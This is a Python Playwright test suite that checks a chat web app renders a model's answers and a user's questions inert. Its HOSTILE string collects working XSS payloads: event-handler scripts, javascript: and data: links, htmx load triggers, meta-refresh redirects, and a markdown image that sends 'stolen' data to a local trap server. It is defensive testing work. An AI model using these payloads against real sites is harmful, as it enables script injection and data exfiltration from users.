"""Everything a model says is hostile: it may be read, and can do nothing."""

import asyncio
from collections.abc import AsyncIterator

import pytest_asyncio
from playwright.async_api import Page, Request, expect

from tests.browser.model import Model
from tests.browser.talk import answer, answers, is_answered, start
from tests.server.process import Parley

ACTIVE = (
    "img, svg, script, iframe, object, embed, form, style, base, meta, hx-partial, [hx-get], [data-hx-get]"
)
#: Set by any script that should not have run.
BROKEN = "() => window.broken"

HOSTILE = """
<img src=x onerror="window.broken = 1"> <script>window.broken = 2</script>
<svg onload="window.broken = 3"></svg> <iframe srcdoc="<script>parent.broken = 4</script>"></iframe>
<div hx-get="/settings/" hx-trigger="load" hx-target="body">hx</div>
<b data-hx-get="/agents/" data-hx-trigger="load">x</b>
<hx-partial hx-target="#composer" hx-swap="delete"></hx-partial>
<form action="/chat/" method=post><button>press me</button></form> <style>body { display: none }</style>
<base href="http://127.0.0.1:{port}/"> <meta http-equiv=refresh content="0; url=http://127.0.0.1:{port}/">

![picture](http://127.0.0.1:{port}/secret?q=stolen) ![ref][r]

[r]: http://127.0.0.1:{port}/reference

[run](javascript:window.broken=5) [data](data:text/html,<script>window.broken=6</script>) [safe](https://example.org/)
<javascript:window.broken=7> [vb](vbscript:x) [sneaky](java&#10;script:window.broken=8)

$\\href{javascript:window.broken=9}{x}$ $\\text{<img src=x onerror=window.broken=10>}$

```html" onmouseover="window.broken = 11
<img src=x onerror="window.broken = 12"></code></pre><img src=x onerror="window.broken = 13">
```

| <img src=x onerror=window.broken=14> | a |
|---|---|
| </td></table><script>window.broken=15</script> | <a href="javascript:window.broken=16">x</a> |

Last words.
"""


class Trap:
    """A server that nothing may call."""

    def __init__(self) -> None:
        self.calls = 0
        self.port = 0

    async def called(self, _reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.calls += 1
        writer.close()


@pytest_asyncio.fixture(loop_scope="session")
async def trap() -> AsyncIterator[Trap]:
    trap = Trap()
    server = await asyncio.start_server(trap.called, "127.0.0.1", 0)
    trap.port = server.sockets[0].getsockname()[1]
    yield trap
    server.close()
    await server.wait_closed()


def watch(page: Page) -> list[str]:
    """The requests a page makes from now on, but for what belongs to it."""
    made: list[str] = []

    def note(request: Request) -> None:
        if "/static/" not in request.url:
            made.append(request.url)

    page.on("request", note)
    return made


async def check(page: Page, trap: Trap) -> None:
    await expect(answer(page)).to_contain_text("Last words.")
    shown = answer(page)
    for element in await shown.locator("*").element_handles():
        names = await element.evaluate("(one) => one.getAttributeNames()")
        assert not [name for name in names if name.startswith("on") or name in {"style", "srcdoc"}]
    prose = shown.locator(".prose")
    await expect(prose.locator(ACTIVE)).to_have_count(0)
    hrefs = await prose.locator("a").evaluate_all("(links) => links.map((link) => link.protocol)")
    assert set(hrefs) <= {"http:", "https:"}
    assert await page.evaluate(BROKEN) is None
    assert trap.calls == 0
    await expect(page.locator("#composer")).to_be_visible()


async def test_an_answer_does_nothing_while_it_comes_nor_later(
    page: Page, parley: Parley, model: Model, trap: Trap
) -> None:
    pen = model.pen()
    url = await start(page, parley.url, "Attack me")
    made = watch(page)
    text = HOSTILE.replace("{port}", str(trap.port))
    for at in range(0, len(text), 11):
        pen.write(text[at : at + 11])
    pen.end()
    await is_answered(page)
    await check(page, trap)
    assert made == []
    await page.reload()
    await check(page, trap)
    assert set(made) == {url}


async def test_nor_does_a_question(page: Page, parley: Parley, model: Model, trap: Trap) -> None:
    text = '<img src=x onerror="window.broken = 1"><div hx-get="/settings/" hx-trigger="load">x</div>'
    await start(page, parley.url, text)
    await is_answered(page)
    await expect(page.locator(".message__said")).to_have_text(text)
    await expect(page.locator("#sidebar-list [aria-current=page]")).to_contain_text("<img src=x")
    await page.reload()
    assert await page.evaluate(BROKEN) is None
    assert trap.calls == 0


async def test_an_answer_cannot_pass_for_a_part_of_the_page(page: Page, parley: Parley, model: Model) -> None:
    model.says(
        '<p id="composer">x</p>\n\n# status\n\n[^a]: note\n\nText[^a] <i id="messages" class="dialog">y</i>'
    )
    await start(page, parley.url, "Pretend")
    await is_answered(page)
    for one in ("composer", "messages", "status", "log", "live", "cursor", "main"):
        await expect(page.locator(f"[id={one}]")).to_have_count(1)
    await expect(answers(page)).to_have_count(1)
